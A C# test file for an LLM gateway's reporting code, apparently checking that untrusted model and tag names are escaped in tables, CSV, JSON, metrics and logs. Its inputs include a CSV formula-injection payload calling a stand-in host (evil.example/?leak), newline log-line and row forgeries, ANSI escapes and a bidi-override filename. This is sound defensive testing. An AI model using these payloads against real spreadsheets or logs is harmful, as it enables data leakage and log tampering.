using System.Net.Http.Headers;
using System.Text.Json;
using Frugal.Core.Accounting;
using Frugal.Core.Accounting.Dashboard;
using Frugal.Core.Accounting.Reports;
using Frugal.Tests.Infrastructure;
using Microsoft.Extensions.DependencyInjection;

namespace Frugal.Tests.Admin;

/// <summary>
/// Issue #19 item 7: model, key, team and tag names are client text and are data on every surface — report table
/// (control characters and ESC sequences shown as \uXXXX), CSV (quoted, formulas neutralised), JSON (escaped, exact),
/// metrics (unknown models folded into "other"), logs (no forged line) — and cannot grow unbounded groups.
/// </summary>
[Collection(ConsoleCollection.Name)]
public sealed class UntrustedTextTests
{
    private const string Formula = "=HYPERLINK(\"http://evil.example/?leak\",\"click\")";
    private const string NewLine = "gpt\nTOTAL  999  forged";
    private const string Escape = "\u001b[31mred\u001b[0m";
    private const string Bidi = "safe\u202Etxt.exe";

    private static readonly DateTimeOffset Since = new(2026, 12, 1, 0, 0, 0, TimeSpan.Zero);

    [Fact]
    public void The_table_shows_control_characters_and_escape_sequences_as_text()
    {
        var table = ReportFormatter.Table(Report(ReportDimension.Model, Formula, NewLine, Escape, Bidi));

        Assert.DoesNotContain('\u001b', table);
        Assert.DoesNotContain('\u202E', table);
        Assert.Contains("\\u001B[31mred\\u001B[0m", table, StringComparison.Ordinal);
        Assert.Contains("gpt\\u000ATOTAL  999  forged", table, StringComparison.Ordinal);
        Assert.Single(table.Split('\n'), l => l.StartsWith("TOTAL", StringComparison.Ordinal)); // the name did not fake a row
    }

    [Fact]
    public void Csv_quotes_newlines_and_neutralises_formulas_so_each_group_is_one_record()
    {
        var csv = ReportFormatter.Csv(Report(ReportDimension.Tag, Formula, NewLine, "+1+1", "-2+3", "@SUM(A1)", "\tcmd", "-0.5"));

        Assert.Contains("\"'=HYPERLINK(\"\"http://evil.example/?leak\"\",\"\"click\"\")\",", csv, StringComparison.Ordinal);
        Assert.Contains("\"gpt\nTOTAL  999  forged\",", csv, StringComparison.Ordinal); // RFC 4180: the newline is inside quotes
        Assert.Contains("\n'+1+1,", csv, StringComparison.Ordinal);
        Assert.Contains("\n'-2+3,", csv, StringComparison.Ordinal);
        Assert.Contains("\n'@SUM(A1),", csv, StringComparison.Ordinal);
        Assert.Contains("\n'\tcmd,", csv, StringComparison.Ordinal);
        Assert.Contains("\n-0.5,", csv, StringComparison.Ordinal); // a plain number is data, left alone
        var records = Records(csv);
        Assert.Equal(1 + 7 + 1, records.Count); // header, seven groups, TOTAL — the newline did not split a row
    }

    [Fact]
    public void Json_carries_each_name_exactly_escaped_by_the_writer()
    {
        var json = JsonDocument.Parse(ReportFormatter.Json(Report(ReportDimension.Key, Formula, NewLine, Escape)));

        var groups = json.RootElement.GetProperty("rows").EnumerateArray().Select(r => r.GetProperty("group").GetString()).ToList();
        Assert.Equal([Formula, NewLine, Escape], groups);
        Assert.DoesNotContain((byte)0x1b, ReportFormatter.Json(Report(ReportDimension.Key, Escape)));
    }

    [Fact]
    public void Reports_by_a_name_fold_past_fifty_groups_into_other_and_keep_the_totals()
    {
        var names = Enumerable.Range(0, 60).Select(i => $"made-up-{i:D2}").ToArray();
        var report = Report(ReportDimension.Model, names);

        var folded = GroupFolding.Fold(report);

        Assert.Equal(51, folded.Rows.Count);
        var other = folded.Rows[^1];
        Assert.Equal("other (10 names)", other.Group);
        Assert.Equal(report.Rows.Sum(r => r.CostUsd), folded.Rows.Sum(r => r.CostUsd));
        Assert.Equal(report.Rows.Sum(r => r.Requests), folded.Rows.Sum(r => r.Requests));
        Assert.DoesNotContain(folded.Rows, r => r.Group == "made-up-00"); // the cheapest ten are the ones folded
        Assert.Contains("other (10 names)", ReportFormatter.Csv(report), StringComparison.Ordinal);
        var byDay = Report(ReportDimension.Day, names);
        Assert.Same(byDay, GroupFolding.Fold(byDay)); // time groups are bounded by the window
    }

    [Fact]
    public void The_dashboard_spend_chart_keeps_ten_series_and_sums_the_rest()
    {
        var series = Enumerable.Range(0, 14).Select(i => new DashboardSeries($"m{i}", [i, 1m])).ToList();

        var folded = GroupFolding.Fold(series);

        Assert.Equal(11, folded.Count);
        Assert.Equal("other (4 names)", folded[^1].Name);
        Assert.Equal([10m + 11 + 12 + 13, 4m], folded[^1].Values);
    }

    [Fact]
    public async Task Through_the_gateway_hostile_models_reach_no_metric_label_no_log_line_and_no_unbounded_report()
    {
        const string adminVariable = "FRUGAL_TEST_UNTRUSTED_ADMIN_KEY";
        Environment.SetEnvironmentVariable(adminVariable, "untrusted-admin");
        var logs = new CapturedLogs();
        await using var gateway = await TestGateway.StartAsync(logs: logs, adminKeyEnv: adminVariable);
        foreach (var model in Enumerable.Range(0, 55).Select(i => $"made-up-{i}").Append(Formula))
        {
            using var response = await gateway.PostJsonAsync("/v1/chat/completions", JsonSerializer.Serialize(new { model, messages = new[] { new { role = "user", content = "hi" } } }));
            Assert.Equal(404, (int)response.StatusCode); // recorded in the ledger under its name
        }

        using (var forged = await gateway.PostJsonAsync("/v1/chat/completions", """{"model":"gpt-4o-mini\ninfo: Frugal[1] admin logged in","messages":[{"role":"user","content":"hi"}]}"""))
        {
            await OpenAIError.AssertAsync(forged, 400);
        }

        using var metricsRequest = new HttpRequestMessage(HttpMethod.Get, "/metrics");
        metricsRequest.Headers.Authorization = new AuthenticationHeaderValue("Bearer", "untrusted-admin");
        using var metrics = await gateway.Http.SendAsync(metricsRequest);
        var text = await metrics.Content.ReadAsStringAsync();
        Assert.Equal(200, (int)metrics.StatusCode);
        Assert.DoesNotContain("HYPERLINK", text, StringComparison.Ordinal);
        Assert.DoesNotContain("made-up-", text, StringComparison.Ordinal);
        Assert.Contains("model=\"other\"", text, StringComparison.Ordinal);
        Assert.DoesNotContain(logs.Lines, l => l.Contains("\ninfo: Frugal[1] admin logged in", StringComparison.Ordinal));

        // The CLI reads the same ledger: one row per name up to 50, then "other (N names)", CSV neutralised.
        var config = Path.Combine(gateway.DataDir, "report.json");
        File.WriteAllText(config, $$"""{"dataDir":"{{gateway.DataDir.Replace("\\", "/", StringComparison.Ordinal)}}"}""");
        await gateway.App.Services.GetRequiredService<Frugal.Core.Accounting.Ledger.LedgerWriter>().FlushAsync(CancellationToken.None);
        var (code, csv, error) = await CliRunner.RunAsync("report", "--by", "model", "--format", "csv", "--since", "1d", "--config", config);
        Assert.True(code == 0, error);
        var records = Records(csv);
        Assert.Equal(1 + 50 + 1 + 1, records.Count); // header, 50 names, other, TOTAL
        Assert.Contains(records, r => r[0].StartsWith("other (", StringComparison.Ordinal) && r[0].EndsWith(" names)", StringComparison.Ordinal));
        Assert.DoesNotContain("\n=", csv, StringComparison.Ordinal);
    }

    /// <summary>The report parsed by the strict CSV reader: header first, then every record (a malformed one throws).</summary>
    private static List<string[]> Records(string csv)
    {
        var table = Frugal.Tools.Csv.CsvTable.Open(new StringReader(csv), "report.csv");
        return [[.. table.Header], .. table.Records().Select(r => r.Fields)];
    }

    private static Report Report(ReportDimension by, params string[] groups)
    {
        var rows = groups.Select((g, i) => new ReportRow { Group = g, Requests = i + 1, CostUsd = 0.01m * (i + 1), AverageLatencyMs = 10 }).ToList();
        var total = new ReportRow { Group = "TOTAL", Requests = rows.Sum(r => r.Requests), CostUsd = rows.Sum(r => r.CostUsd) };
        return new Report(new ReportQuery(Since, Since.AddDays(1), by), rows, total);
    }
}
